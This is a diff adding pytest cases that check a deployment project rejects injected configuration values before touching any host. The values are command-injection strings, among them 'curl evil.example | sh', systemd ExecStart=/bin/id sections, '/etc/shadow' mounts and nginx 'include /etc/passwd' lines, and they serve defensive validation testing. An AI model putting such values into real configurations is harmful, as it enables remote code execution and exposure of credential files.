@@ -329,6 +329,100 @@ RELAY46_CASES = [
 ]
 
 
+# Issue 13, item 6: single values that reach nginx.conf, unit files, the timer, iptables rules and
+# the programs' configuration: refused before any host is touched, naming the variable.
+RENDERED_VALUE_CASES = [
+    pytest.param(
+        relay46(relay46_vps_resolver="198.18.0.53;\n    include /etc/passwd"),
+        ["relay46_vps_resolver must be DNS server addresses separated by spaces"],
+        id="resolver-injects-a-directive",
+    ),
+    pytest.param(
+        relay46(relay46_vps_resolver="198.18.0.53 valid=1s"),
+        ["relay46_vps_resolver must be DNS server addresses"],
+        id="resolver-with-a-parameter",
+    ),
+    pytest.param(
+        relay46(relay46_vps_ipv4="vps.example.com"),
+        ["relay46_vps_ipv4 must be an IPv4 address"],
+        id="vps-ipv4-a-name",
+    ),
+    pytest.param(
+        relay46(relay46_vps_ipv6="fd00::40}"),
+        ["relay46_vps_ipv6 must be an IPv6 address"],
+        id="vps-ipv6-brace",
+    ),
+    pytest.param(
+        relay46(relay46_nas_name="nas.example.com\n"),
+        ["relay46_nas_name must be a DNS name"],
+        id="nas-name-trailing-newline",
+    ),
+    pytest.param(
+        relay46(relay46_nas_relay_allow=["192.168.0.0/24", "0/0 -j ACCEPT"]),
+        ["relay46_nas_relay_allow[1] must be an IP address or network"],
+        id="relay-allow-rule-text",
+    ),
+    pytest.param(
+        relay46(relay46_cloudflare_api_url="https://api.example.com/v4\nCLOUDFLARE_API_TOKEN=x"),
+        ["relay46_cloudflare_api_url must be an http:// or https:// URL"],
+        id="api-url-adds-an-env-line",
+    ),
+    pytest.param(
+        relay46(certbot_renew_on_calendar="daily\n[Service]\nExecStart=/bin/id"),
+        ["certbot_renew_on_calendar must be a systemd calendar event"],
+        id="timer-calendar-adds-a-section",
+    ),
+    pytest.param(
+        relay46(certbot_renew_randomized_delay="1h$x"),
+        ["certbot_renew_randomized_delay must be a systemd time span"],
+        id="timer-delay-dollar",
+    ),
+    pytest.param(
+        relay46(nginx_stack_resolver_valid="10s; include /etc/passwd"),
+        ["nginx_stack_resolver_valid must be an nginx time"],
+        id="resolver-valid-semicolon",
+    ),
+    pytest.param(
+        relay46(docker_engine_http_proxy='http://proxy:3128"\nExecStartPre=/bin/id'),
+        ["docker_engine_http_proxy must be an http:// proxy URL"],
+        id="proxy-adds-a-unit-line",
+    ),
+    pytest.param(
+        relay46(docker_engine_http_proxy="http://user:50%off@proxy:3128"),
+        ["docker_engine_http_proxy must be an http:// proxy URL"],
+        id="proxy-percent-specifier",
+    ),
+    pytest.param(
+        relay46(certbot_image="certbot/certbot; curl evil.example | sh"),
+        ["certbot_image must be a Docker image reference"],
+        id="image-into-the-wrapper-script",
+    ),
+    pytest.param(
+        relay46(nginx_stack_certs_dir="/opt/certs:/etc/shadow"),
+        ["nginx_stack_certs_dir must be an absolute path"],
+        id="certs-dir-adds-a-mount",
+    ),
+    pytest.param(
+        relay46(docker_engine_no_proxy="localhost;x"),
+        ["docker_engine_no_proxy must be host names, addresses and networks separated by commas"],
+        id="no-proxy-semicolon",
+    ),
+]
+
+
+@pytest.mark.parametrize(("host_vars", "expected"), RENDERED_VALUE_CASES)
+def test_bad_rendered_value_fails_before_any_host_is_touched(
+    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
+) -> None:
+    result = run_site_edge(tmp_path, host_vars)
+    assert_untouched(result)
+    output = result.stdout + result.stderr
+    flowing = " ".join(output.split())  # the YAML callback folds long messages
+    for part in expected:
+        assert part in flowing, f"{part!r} missing from:\n{output}"
+    assert "_AnsibleTagged" not in output, output
+
+
 @pytest.mark.parametrize(("host_vars", "expected"), RELAY46_CASES)
 def test_bad_relay46_input_fails_before_any_host_is_touched(
     tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
